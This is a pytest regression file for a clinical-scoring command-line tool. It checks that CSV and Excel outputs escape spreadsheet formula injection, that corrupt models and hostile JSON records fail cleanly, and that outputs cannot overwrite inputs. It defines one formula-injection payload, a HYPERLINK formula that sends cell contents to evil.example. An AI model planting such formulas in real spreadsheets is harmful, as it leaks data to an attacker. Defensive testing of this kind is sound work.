"""Regression tests for issue #15's reproductions through the real ``mmn-ddx`` app: formula injection in
every table a command writes, and clear errors (no traceback) for a corrupt model and hostile records."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from mmn_ddx.cli import app
from mmn_ddx.data.contract import LABEL
from mmn_ddx.data.generator import generate_cohort
from mmn_ddx.data.writers import FORMULA_PREFIXES
from mmn_ddx.serving.predictor import Predictor

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
runner = CliRunner(env={"COLUMNS": "200", "NO_COLOR": "1"})


def _cells(path: Path) -> list[object]:
    """Every cell of a written .csv or .xlsx, failing on any Excel formula cell."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as stream:
            return [cell for row in csv.reader(stream) for cell in row]
    cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    return [c.value for c in cells]


def _assert_neutralised(path: Path) -> None:
    texts = [c for c in _cells(path) if isinstance(c, str)]
    assert "'" + ATTACK in texts, texts[:20]
    assert not [t for t in texts if t.startswith(FORMULA_PREFIXES)]


@pytest.fixture
def attack_csv(tmp_path: Path) -> Path:
    cohort = generate_cohort(6, seed=3).drop(columns=[LABEL])
    cohort["patient_id"] = cohort["patient_id"].astype(object)
    cohort.loc[0, "patient_id"] = ATTACK
    path = tmp_path / "attack.csv"
    cohort.to_csv(path, index=False)
    return path


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_validate_report_neutralises_formulas(tmp_path: Path, suffix: str) -> None:
    source = tmp_path / "bad.csv"
    source.write_text(f'patient_id,age_at_onset_years,sex\nP1,40,"{ATTACK.replace(chr(34), 2 * chr(34))}"\n',
                      encoding="utf-8")
    report = tmp_path / f"rejections{suffix}"
    result = runner.invoke(app, ["cohort", "validate", str(source), "--report", str(report)])
    assert result.exit_code == 1 and "1 rejected" in result.stdout, result.output
    _assert_neutralised(report)


@pytest.fixture(scope="module")
def loaded(quick_bundle_dir: Path) -> Predictor:
    return Predictor.load(str(quick_bundle_dir), threads=1)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_predict_output_neutralises_formulas(attack_csv: Path, tmp_path: Path, suffix: str, loaded: Predictor,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Predictor, "load", classmethod(lambda cls, *args, **kwargs: loaded))
    output = tmp_path / f"scored{suffix}"
    result = runner.invoke(app, ["predict", str(attack_csv), "--model", "bundle", "-o", str(output)])
    assert result.exit_code == 0, result.output
    _assert_neutralised(output)
    if suffix == ".xlsx":  # probabilities stay numbers
        sheet = openpyxl.load_workbook(output).active
        header = [c.value for c in sheet[1]]
        assert isinstance(sheet.cell(2, header.index("p_MMN") + 1).value, float)


def test_predict_output_keeps_numeric_patient_ids_joinable(tmp_path: Path, loaded: Predictor,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """`predict -o scored.csv` wrote the patient_id -17 as '-17: a join of the scores with the cohort on
    patient_id lost the patient. A plain number cannot run as a formula, so it is written as it is."""
    monkeypatch.setattr(Predictor, "load", classmethod(lambda cls, *args, **kwargs: loaded))
    cohort = generate_cohort(3, seed=3).drop(columns=[LABEL])
    cohort["patient_id"] = ["-17", "-0.5", "=1+2"]
    path = tmp_path / "ids.csv"
    cohort.to_csv(path, index=False)
    output = tmp_path / "scored.csv"
    result = runner.invoke(app, ["predict", str(path), "--model", "bundle", "-o", str(output)])
    assert result.exit_code == 0, result.output
    with output.open(encoding="utf-8", newline="") as stream:
        ids = [row["patient_id"] for row in csv.DictReader(stream)]
    assert ids == ["-17", "-0.5", "'=1+2"]


def test_criteria_output_neutralises_formulas(attack_csv: Path, tmp_path: Path) -> None:
    output = tmp_path / "verdicts.csv"
    result = runner.invoke(app, ["criteria", str(attack_csv), "-o", str(output)])
    assert result.exit_code == 0, result.output
    _assert_neutralised(output)


def test_predict_with_a_corrupt_pipeline_is_a_clear_error(quick_bundle_dir: Path, attack_csv: Path,
                                                          tmp_path: Path) -> None:
    model = tmp_path / "model"
    shutil.copytree(quick_bundle_dir, model)
    (pipeline,) = model.rglob("pipeline.skops")
    pipeline.write_bytes(b"PK\x03\x04 this is not a skops archive")
    result = runner.invoke(app, ["predict", str(attack_csv), "--model", str(model), "-o", str(tmp_path / "o.csv")])
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit) and "Traceback" not in result.output
    assert "Error:" in result.stderr and "model" in result.stderr
    assert not (tmp_path / "o.csv").exists()


@pytest.mark.parametrize(("text", "message"), [
    ('{"patient_id": "\\ud800", "age_at_onset_years": 40, "sex": "male"}', "field 'patient_id': not valid Unicode"),
    ('{"age_at_onset_years": 40, "sex": "male", "sex": "female"}', "duplicate key 'sex'"),
    ('{"age_at_onset_years": NaN, "sex": "male"}', "field 'age_at_onset_years': not valid JSON (NaN is not a JSON"),
])
@pytest.mark.parametrize("command", ["predict", "criteria"])
def test_a_hostile_single_record_is_a_clear_error(tmp_path: Path, text: str, message: str, command: str) -> None:
    path = tmp_path / "patient.json"
    path.write_text(text, encoding="utf-8")
    result = runner.invoke(app, [command, str(path), *(["--model", str(tmp_path)] if command == "predict" else [])])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert message in result.stderr, result.output


def test_an_excel_formula_without_a_stored_result_is_rejected(tmp_path: Path) -> None:
    """Issue #15: `=1+2` in nerves_definite_cb was read as null ("not examined") and the row accepted."""
    path = tmp_path / "formula.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.append(["patient_id", "age_at_onset_years", "sex", "nerves_definite_cb"])
    workbook.active.append(["P1", 40, "male", "=1+2"])
    workbook.save(path)
    result = runner.invoke(app, ["cohort", "validate", str(path)])
    assert result.exit_code == 1 and "formula cell without a stored result" in " ".join(result.stdout.split())


@pytest.mark.parametrize("command", [
    ["cohort", "validate", "{cohort}", "--report", "{same}"],
    ["predict", "{cohort}", "-o", "{same}", "--model", "{tmp}"],
    ["criteria", "{cohort}", "-o", "{same}", "--skip-invalid"],
    ["world", "fit", "--data", "{cohort}", "-o", "{same}"],
    ["world", "fit", "--data", "{cohort}", "-o", "{tmp}/w.yaml", "--report", "{same}"],
])
def test_an_output_that_is_the_input_is_refused_before_anything_is_written(tmp_path: Path,
                                                                            command: list[str]) -> None:
    """`validate c.csv --report c.csv` and `predict c.csv -o c.csv` replaced the cohort by their output."""
    cohort = tmp_path / "cohort.csv"
    generate_cohort(6, seed=3).to_csv(cohort, index=False)
    before = cohort.read_bytes()
    same = tmp_path / "sub" / ".." / "cohort.csv"  # another spelling of the same path
    (tmp_path / "sub").mkdir()
    args = [a.format(cohort=cohort, same=same, tmp=tmp_path) for a in command]
    result = runner.invoke(app, args)
    assert result.exit_code == 2, result.output
    assert "is the input file" in result.stderr and "would overwrite it" in result.stderr
    assert cohort.read_bytes() == before


@pytest.mark.parametrize("command", ["predict", "criteria"])
def test_a_single_records_diagnosis_is_checked_then_not_read(tmp_path: Path, quick_bundle_dir: Path,
                                                             command: str) -> None:
    """`predict` ignored a record's "diagnosis": "XYZ" unseen, and `criteria` refused a valid "MMN" as a field
    outside the data dictionary; a cohort file checks the label and neither command reads it."""
    model = ["--model", str(quick_bundle_dir)] if command == "predict" else []
    path = tmp_path / "patient.json"
    path.write_text('{"age_at_onset_years": 40, "sex": "male", "diagnosis": "XYZ"}', encoding="utf-8")
    refused = runner.invoke(app, [command, str(path), *model])
    assert refused.exit_code == 1 and "diagnosis" in refused.stderr and "not one of" in refused.stderr, refused.output
    path.write_text('{"age_at_onset_years": 40, "sex": "male", "diagnosis": "MMN"}', encoding="utf-8")
    read = runner.invoke(app, [command, str(path), *model, "--json"] if command == "predict" else [command, str(path)])
    assert read.exit_code == 0, read.output
